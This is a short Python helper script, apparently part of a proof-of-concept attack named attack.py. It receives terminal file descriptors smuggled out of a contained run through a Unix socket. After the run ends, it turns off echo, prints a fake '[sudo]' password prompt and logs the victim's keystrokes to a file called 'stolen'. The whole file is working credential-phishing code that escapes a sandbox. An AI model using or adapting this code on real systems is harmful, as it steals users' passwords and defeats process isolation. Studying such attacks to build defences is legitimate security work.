# A process outside the run, to which attack.py passes its descriptors. It uses them when the run is over.
import array, fcntl, os, socket, struct, sys, termios, time
dir = sys.argv[1]
l = socket.socket(socket.AF_UNIX)
l.bind(dir + "/stay")
l.listen(1)
c, _ = l.accept()
_, anc, _, _ = c.recvmsg(1, 1000)
fds = array.array("i", anc[0][2])
c.send(b"x")
while not os.path.exists(dir + "/over"):
    time.sleep(0.01)
with open(dir + "/stolen", "wb", 0) as stolen:
    for fd in fds:
        try:
            t = termios.tcgetattr(fd)
            t[3] &= ~termios.ECHO
            termios.tcsetattr(fd, termios.TCSANOW, t)
            fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 7, 7, 0, 0))
        except (OSError, termios.error):
            pass
        os.set_blocking(fd, False)
        try:
            os.write(fd, b"[sudo] FALSE PROMPT: ")
        except OSError:
            pass
    open(dir + "/done", "w").close()
    while os.path.exists(dir + "/over"):
        for fd in fds:
            try:
                stolen.write(os.read(fd, 100))
            except OSError:
                pass
        time.sleep(0.001)
